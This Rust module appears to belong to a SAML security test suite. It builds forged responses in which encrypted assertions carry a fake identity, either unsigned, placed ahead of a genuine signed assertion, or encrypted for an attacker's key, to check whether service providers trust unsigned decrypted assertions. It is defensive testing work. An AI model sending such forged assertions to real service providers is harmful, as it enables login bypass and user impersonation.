//! Tamper-catalogue entries for encrypted assertions (issue 16 item 11; saml-attacks.md "Encryption,
//! wrong key", "Encryption, unsigned inside", "Mixed encrypted and plain"). Encryption is not
//! authentication: anyone holding the SP's certificate (it is public, in the SP metadata) can encrypt
//! an assertion for it, so only a signature may make a decrypted assertion trusted.

use super::{forged_assertion, make_spec_evil, shape, AttackContext, AttackError};
use crate::encrypt::{
    encrypt_assertion, encrypt_assertion_in, sign_and_encrypt, Encryption, EncryptionKey,
};
use crate::sign::sign_response;
use crate::spec::ResponseSpec;
use crate::style::SignMode;
use crate::xml::{self, Node, NS_ASSERTION};

/// What the document holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Layout {
    /// `encrypted-unsigned`: the forged identity in an unsigned assertion, encrypted for the SP, in an
    /// unsigned Response (pysaml2#55: encrypted assertions went unverified).
    UnsignedInside,
    /// `encrypted-plus-plain`: the genuine signed assertion in plain, and before it the forged identity,
    /// unsigned and encrypted for the SP (saml-attacks.md A4: an SP that verifies the plain one and
    /// reads the first assertion of either kind).
    PlusPlain,
    /// `encrypted-for-other-key`: a genuine login encrypted for another key (the attacker's certificate):
    /// the SP cannot decrypt it and must refuse it with a clear error.
    OtherKey,
    /// `encrypted-response-signed`: a control. The Response signed, the assertion inside unsigned and
    /// encrypted; the Response signature covers the ciphertext (crewjam/saml#270, fixed in #273).
    ResponseSignedOnly,
}

const XML_DECLARATION: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

/// The document `layout` describes, from the valid login `spec`.
pub(super) fn encrypted(
    spec: &mut ResponseSpec,
    ctx: &AttackContext<'_>,
    attack: &'static str,
    layout: Layout,
) -> Result<String, AttackError> {
    let encryption = ctx
        .encrypt_for
        .ok_or(AttackError::NeedsEncryption { attack })?;
    let encrypt_error = |source| AttackError::Encrypt {
        attack,
        source: Box::new(source),
    };
    let sign_error = |source| AttackError::Sign { attack, source };
    let rewrite = |source| AttackError::Rewrite { attack, source };
    match layout {
        Layout::UnsignedInside => {
            make_spec_evil(spec, ctx.uid_attribute, ctx.forged_identity());
            let mut root = xml::parse(&spec.to_unsigned_xml()).map_err(rewrite)?;
            encrypt_assertion_in(&mut root, encryption).map_err(encrypt_error)?;
            Ok(format!("{XML_DECLARATION}{}", root.to_xml()))
        }
        Layout::PlusPlain => {
            spec.sign = SignMode::Assertion;
            let mut root = xml::parse(&sign_response(spec, ctx.trusted).map_err(sign_error)?)
                .map_err(rewrite)?;
            let (evil, wrapper_root) = forged_assertion(spec, ctx, attack)?;
            let encrypted =
                encrypt_assertion(&evil, &wrapper_root, encryption).map_err(encrypt_error)?;
            let at = root
                .child_index(NS_ASSERTION, "Assertion")
                .ok_or_else(|| shape(attack, "no assertion"))?;
            root.children.insert(at, Node::Element(encrypted));
            Ok(format!("{XML_DECLARATION}{}", root.to_xml()))
        }
        Layout::OtherKey => {
            let other = Encryption {
                key: EncryptionKey::from_certificate(ctx.attacker.certificate().clone())
                    .map_err(encrypt_error)?,
                content: encryption.content,
            };
            sign_and_encrypt(spec, ctx.trusted, &other).map_err(sign_error)
        }
        Layout::ResponseSignedOnly => {
            spec.sign = SignMode::Response;
            sign_and_encrypt(spec, ctx.trusted, encryption).map_err(sign_error)
        }
    }
}
